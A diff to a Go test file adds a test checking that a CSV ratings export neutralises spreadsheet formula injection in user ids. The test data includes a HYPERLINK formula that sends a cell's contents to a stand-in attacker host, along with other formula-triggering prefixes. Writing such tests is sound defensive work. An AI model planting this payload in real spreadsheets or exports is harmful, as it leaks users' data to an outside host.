@@ -13,6 +13,7 @@ import (
 	"github.com/segmentio/kafka-go"
 
 	"github.com/ratestream/ratestream/pkg/rating"
+	"github.com/ratestream/ratestream/pkg/scoring"
 	"github.com/ratestream/ratestream/tools/testenv"
 )
 
@@ -87,5 +88,51 @@ func TestExport(t *testing.T) {
 	er, err := parquet.ReadFile[eventRow](events)
 	if err != nil || len(er) != 4 {
 		t.Fatalf("events since 12:01: %d rows (%v), want 4", len(er), err)
+	}
+}
+
+// A user id is a client's text: in a CSV export it must reach a
+// spreadsheet as text, not as a formula, and come back exactly by
+// removing one leading apostrophe where there is one.
+func TestExportCSVRunsNoFormula(t *testing.T) {
+	db := testenv.NewDatabase(t)
+	p := scoring.DefaultParams(time.Minute)
+	t0 := time.Date(2026, 5, 1, 12, 0, 0, 0, time.UTC)
+	users := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "'quoted", "plain", "a=b"}
+	var events []rating.Event
+	for i, u := range users {
+		events = append(events, testenv.Event(t, 1, u, i%6, t0.Add(time.Duration(i)*time.Second)))
+	}
+	testenv.Store(t, db, testenv.Fold(p, 0, events...), 0, int64(len(events)))
+	t.Setenv("DATABASE_URL", db.URL)
+	file := filepath.Join(t.TempDir(), "ratings.csv")
+	runCLI(t, exportCmd(), "ratings", "--format", "csv", "-o", file)
+	f, err := os.Open(file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	recs, err := csv.NewReader(f).ReadAll()
+	if err != nil || len(recs) != len(users)+1 {
+		t.Fatalf("%d records, %v", len(recs), err)
+	}
+	got := map[string]bool{}
+	for _, r := range recs[1:] {
+		cell := r[1]
+		if strings.ContainsAny(cell[:1], "=+-@\t\r") {
+			t.Errorf("cell %q would run as a formula", cell)
+		}
+		got[strings.TrimPrefix(cell, "'")] = true
+		if cell == "plain" || cell == "a=b" {
+			continue
+		}
+		if !strings.HasPrefix(cell, "'") {
+			t.Errorf("cell %q has no leading apostrophe", cell)
+		}
+	}
+	for _, u := range users {
+		if !got[u] {
+			t.Errorf("user %q does not come back from its cell", u)
+		}
 	}
 }
